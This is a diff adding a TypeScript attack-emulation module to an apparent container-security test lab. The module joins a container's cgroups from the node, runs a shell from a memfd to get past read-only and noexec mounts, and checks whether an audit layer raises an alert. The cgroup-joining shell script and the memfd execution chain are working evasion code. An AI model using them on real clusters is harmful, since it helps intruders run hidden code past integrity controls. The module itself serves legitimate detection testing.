@@ -1,0 +1,64 @@
+/**
+ * Attack (T1620 Reflective Code Loading, T1059.004 Unix Shell): code runs
+ * in a protected container from an anonymous memory file (memfd_create(2),
+ * then fexecve), so it is in no signed layer and in no file system at all:
+ * the start gate's read-only root and noexec writable mounts cannot refuse
+ * it, since the kernel does not apply mount flags to a memfd.
+ *
+ * The lab's images carry no interpreter that could call memfd_create (a
+ * Python or Perl in the image would), so root on the node plays that part:
+ * a shell moves itself into the container's cgroups (every hierarchy that
+ * names the container), then runs native/memfd-exec.c, which copies the
+ * node's busybox into a memfd, enters the container's namespaces and runs
+ * the memfd as `sh -c <payload>`. To the kernel, and to any detector that
+ * places processes by cgroup (the audit layer, Falco), that is a process of
+ * the container.
+ *
+ * Effect: the payload's output (it should read a file of the container, to
+ * show it ran in the container's mount namespace) and exit 0. Only the audit
+ * layer can see it: the verdict on integrity is its alert.
+ */
+import { copyFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { awaitAuditAlerts, awaitAuditWatching } from '../../audit/index.ts';
+import { compileStatic } from '../../watchdog/index.ts';
+import type { Technique } from '../technique.ts';
+import { requirePayload } from './common.ts';
+import { targetOf } from './overmount.ts';
+
+const SOURCE = join(import.meta.dirname, 'native', 'memfd-exec.c');
+
+/**
+ * The shell the attacker runs on the node: join every cgroup directory of
+ * the container (cgroup v1 has one per hierarchy), then exec the tool.
+ */
+export function joinCgroupsThenRun(containerId: string, tool: readonly string[]): string[] {
+  if (!/^[0-9a-f]{64}$/.test(containerId)) throw new Error(`container id should be 64 hex digits, got ${JSON.stringify(containerId)}`);
+  const script = 'n=0; for d in $(find /sys/fs/cgroup -type d -name "$1"); do echo $$ > "$d/cgroup.procs" && n=$((n+1)); done; [ "$n" -gt 0 ] || { echo "no cgroup of $1 joined" >&2; exit 97; }; shift; exec "$@"';
+  return ['sh', '-c', script, 'sh', containerId, ...tool];
+}
+
+export const memfdExec: Technique = {
+  name: 'memfd-exec',
+  async run(ctx) {
+    const { node, attack } = ctx;
+    const payload = requirePayload(attack);
+    const target = await targetOf(ctx);
+    const tool = join(node.shareDir, 'memfd-exec');
+    await copyFile(await compileStatic(SOURCE, 'memfd-exec'), tool);
+    // As for an attacker in the container, who arrives once it runs: the audit layer watches it first.
+    await awaitAuditWatching(node, target.containerId);
+    const since = new Date();
+    const command = joinCgroupsThenRun(target.containerId, [tool, String(target.pid), '/bin/busybox', 'sh', '-c', payload]);
+    const r = await node.exec.run(command);
+    const stdout = r.stdout.toString();
+    const effect = r.exitCode === 0 && stdout.trim() !== '';
+    return {
+      effect,
+      reason: effect
+        ? `a shell from a memory file (memfd_create + fexecve) ran "${payload}" in ${target.pod.namespace}/${target.pod.name}: exit 0`
+        : `the shell from a memory file did not run in ${target.pod.namespace}/${target.pod.name}: exit ${r.exitCode}, ${r.stderr.toString().trim()}`,
+      evidence: { command, exitCode: r.exitCode, stdout, stderr: r.stderr.toString(), auditAlerts: await awaitAuditAlerts(node, since) },
+    };
+  },
+};
